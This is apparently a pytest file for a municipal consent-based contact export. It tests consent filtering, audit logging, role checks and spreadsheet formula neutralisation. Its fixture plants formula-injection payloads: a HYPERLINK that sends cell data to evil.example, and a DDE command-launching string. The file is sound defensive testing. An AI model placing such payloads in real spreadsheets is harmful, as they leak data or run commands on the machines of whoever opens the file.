"""Consent-based outreach: only consenting, non-withdrawn citizens; files that no spreadsheet
evaluates; an audit entry for every export without any contact data in it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from data_pipeline.analysis.filtering import Filters
from data_pipeline.cli.main import main
from data_pipeline.core.errors import InvalidFile
from data_pipeline.core.safe_export import FORMULA_STARTS, PHONE
from data_pipeline.outreach.contacts import Segment, export_contacts
from data_pipeline.privacy.roles import AccessDenied, Principal
from data_pipeline.store.db import connect
from tests.security.helpers import app

OUTREACH = Principal("coordinator@kommune.dk", frozenset({"outreach"}))
PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+45 12 34 56 78",
}
EXTRA = ["-2+3", "\t=1+1", "\r=1+1"]


def plant_payloads(con) -> list[int]:
    """Four consenting citizens whose contact fields look like formulas."""
    ids = [
        r[0]
        for r in con.execute(
            "SELECT c.respondent_id FROM contact c JOIN respondent r USING (respondent_id) "
            "WHERE r.wave_id = '2025' AND r.consent_contact AND c.withdrawn_at IS NULL "
            "ORDER BY 1 LIMIT 4"
        ).fetchall()
    ]
    con.execute(
        "UPDATE contact SET name = $n, email = $e, phone = $p WHERE respondent_id = $id",
        {"n": PAYLOADS["name"], "e": PAYLOADS["email"], "p": PAYLOADS["phone"], "id": ids[0]},
    )
    for rid, payload in zip(ids[1:], EXTRA, strict=True):
        con.execute(
            "UPDATE contact SET name = $n WHERE respondent_id = $id", {"n": payload, "id": rid}
        )
    return ids


def test_csv_cells_that_start_like_a_formula_are_neutralised(sample_db):
    """As a dialogue coordinator I open the exported CSV in Excel, and no cell a citizen typed
    (=, +, -, @, tab, CR) runs as a formula; the phone number is readable, without a quote."""
    plant_payloads(sample_db)
    export = export_contacts(sample_db, OUTREACH, Segment(Filters(wave="2025")), "Test", "csv")
    rows = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert cells, "the export is empty"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not PHONE.fullmatch(c)]
    assert "'" + PAYLOADS["name"] in cells
    assert "'" + PAYLOADS["email"] in cells
    assert "+45 12 34 56 78" in cells  # a phone number is not a formula (OWASP; issue 14)
    for payload in EXTRA:
        assert "'" + payload in cells


def test_xlsx_cells_are_strings_never_formulas(sample_db):
    """As a dialogue coordinator I open the XLSX: formula-looking text stays text,
    "+45 12 34 56 78" is a text cell, not a number or a formula; the id is a number."""
    ids = plant_payloads(sample_db)
    export = export_contacts(sample_db, OUTREACH, Segment(Filters(wave="2025")), "Test", "xlsx")
    sheet = load_workbook(io.BytesIO(export.data)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    assert headers == ["Respondent-id", "Navn", "E-mail", "Telefon", "Samtykke givet"]
    assert all(cell.data_type == "s" for row in rows for cell in row[1:] if cell.value)
    assert all(row[0].data_type == "n" for row in rows[1:])
    by_id = {row[0].value: [c.value for c in row] for row in rows[1:]}
    assert by_id[ids[0]][1:4] == [PAYLOADS["name"], PAYLOADS["email"], "+45 12 34 56 78"]
    with zipfile.ZipFile(io.BytesIO(export.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_only_consenting_citizens_whose_consent_is_not_withdrawn_are_exported(sample_db):
    """As a citizen who withdrew my consent, I am not in any later contact list."""
    withdrawn = sample_db.execute(
        "SELECT respondent_id FROM contact JOIN respondent USING (respondent_id) "
        "WHERE wave_id = '2025' ORDER BY 1 LIMIT 3"
    ).fetchall()
    withdrawn = [r[0] for r in withdrawn]
    sample_db.execute(
        "UPDATE contact SET withdrawn_at = now() WHERE respondent_id = $id", {"id": withdrawn[0]}
    )
    # Consent taken back on the answer itself also counts.
    sample_db.execute(
        "UPDATE respondent SET consent_contact = false WHERE respondent_id = $id",
        {"id": withdrawn[1]},
    )
    export = export_contacts(sample_db, OUTREACH, Segment(Filters(wave="2025")), "Test", "csv")
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig")), delimiter=";"))
    exported = {int(r["Respondent-id"]) for r in rows}
    expected = {
        r[0]
        for r in sample_db.execute(
            "SELECT r.respondent_id FROM respondent r JOIN contact c USING (respondent_id) "
            "WHERE r.wave_id = '2025' AND r.consent_contact AND c.withdrawn_at IS NULL"
        ).fetchall()
    }
    assert exported == expected
    assert withdrawn[0] not in exported and withdrawn[1] not in exported
    assert withdrawn[2] in exported


def test_every_export_is_audited_with_hash_reason_and_segment_but_no_contact_data(sample_db):
    """As the DPO I read who exported which segment, why, how many rows and the file's hash,
    and the log itself holds no name, email or phone number."""
    segment = Segment(Filters(wave="2025", topics=("klima",), areas=("01",)))
    export = export_contacts(sample_db, OUTREACH, segment, "Klimadialog i marts", "xlsx")
    actor, action, detail = sample_db.execute(
        'SELECT actor, action, detail FROM audit_log ORDER BY "at" DESC LIMIT 1'
    ).fetchone()
    detail = json.loads(detail)
    assert (actor, action) == ("coordinator@kommune.dk", "export_contacts")
    assert detail["reason"] == "Klimadialog i marts"
    assert detail["rows"] == export.rows > 0
    assert detail["sha256"] == hashlib.sha256(export.data).hexdigest()
    assert detail["segment"] == {"wave": "2025", "areas": ["01"], "topics": ["klima"]}
    log_text = " ".join(str(r) for r in sample_db.execute("SELECT * FROM audit_log").fetchall())
    contacts = sample_db.execute("SELECT name, email, phone FROM contact").fetchall()
    assert "@" not in log_text.replace("coordinator@kommune.dk", "")
    assert not any(value and value in log_text for row in contacts for value in row)


@pytest.mark.parametrize("role", ["viewer", "director", "analyst"])
def test_an_export_without_the_outreach_role_is_refused_and_writes_nothing(sample_db, role):
    """As a director I cannot export contacts by calling the function directly either."""
    before = sample_db.execute("SELECT count(*) FROM audit_log").fetchone()[0]
    with pytest.raises(AccessDenied):
        export_contacts(sample_db, Principal("x", frozenset({role})), Segment(), "Test", "csv")
    assert sample_db.execute("SELECT count(*) FROM audit_log").fetchone()[0] == before


def test_an_export_without_a_reason_is_refused(sample_db):
    """As the DPO I know every export has a stated reason."""
    with pytest.raises(InvalidFile, match="reason"):
        export_contacts(sample_db, OUTREACH, Segment(), "   ", "csv")


def test_the_cli_exports_a_segment_and_prints_no_contact_data(db_file, tmp_path, capsys):
    """As IT operations I export a segment from the command line; the output has the row count
    and hash, and the contact data is only in the file (readable by its owner only)."""
    out = tmp_path / "kontakter.csv"
    code = main(
        [
            "export-contacts", "--db", str(db_file), "--out", str(out), "--reason", "Skolemøde",
            "--actor", "it-drift", "--topic", "skole", "--format", "borgermoede",
            "--area", "01", "--area", "02", "--age-band", "30-39", "--age-band", "40-49",
            "--json",
        ]
    )  # fmt: skip
    printed = capsys.readouterr().out
    assert code == 0
    payload = json.loads(printed)
    assert "@" not in printed
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
    con = connect(db_file)
    expected = con.execute(
        "SELECT count(*) FROM respondent r JOIN contact c USING (respondent_id) "
        "JOIN vocabulary t ON t.kind = 'topic' AND t.code = 'skole' "
        "JOIN vocabulary f ON f.kind = 'format' AND f.code = 'borgermoede' "
        "WHERE r.wave_id = '2025' AND r.consent_contact AND c.withdrawn_at IS NULL "
        "AND r.area_code IN ('01', '02') AND r.age_band IN ('30-39', '40-49') "
        "AND (r.topic_mask >> t.bit) & 1 = 1 AND (r.format_mask >> f.bit) & 1 = 1"
    ).fetchone()[0]
    con.close()
    assert payload["rows"] == len(rows) == expected > 0


def test_the_cli_refuses_an_unknown_file_type(db_file, tmp_path):
    """As IT operations I get a clear refusal (exit 2) for an export named .txt."""
    code = main(
        ["export-contacts", "--db", str(db_file), "--out", str(tmp_path / "x.txt"),
         "--reason", "r", "--actor", "a"]
    )  # fmt: skip
    assert code == 2 and not (tmp_path / "x.txt").exists()


def test_the_kontakt_page_never_exports_without_the_access_checked_route(app_db):
    """As a dialogue coordinator I pick a segment, see the count and must give a reason. Where
    no server can stream the file to my browser alone (here: no server at all), the page says
    so and nothing is built or audited: there is no fallback to Streamlit's media store. The
    real download is tested in tests/security/test_contact_download.py."""
    at = app("kontakt", role="outreach")
    assert at.metric[0].value not in ("", "0")
    at.button(key="FormSubmitter:c_export-Lav kontaktliste").click().run()
    assert at.warning and not at.get("download_button")
    from app_support import data

    def audit_count() -> int:
        cur = data.cursor()  # the app's own connection to its database
        try:
            return cur.execute("SELECT count(*) FROM audit_log").fetchone()[0]
        finally:
            cur.close()

    before = audit_count()
    at = app("kontakt", role="outreach")
    at.text_input(key="c_reason").input("Invitation til klimamøde")
    at.button(key="FormSubmitter:c_export-Lav kontaktliste").click().run()
    assert not at.exception
    assert not at.get("download_button") and not at.get("link_button")
    assert any("kan ikke hentes sikkert" in e.value for e in at.error)
    assert audit_count() == before
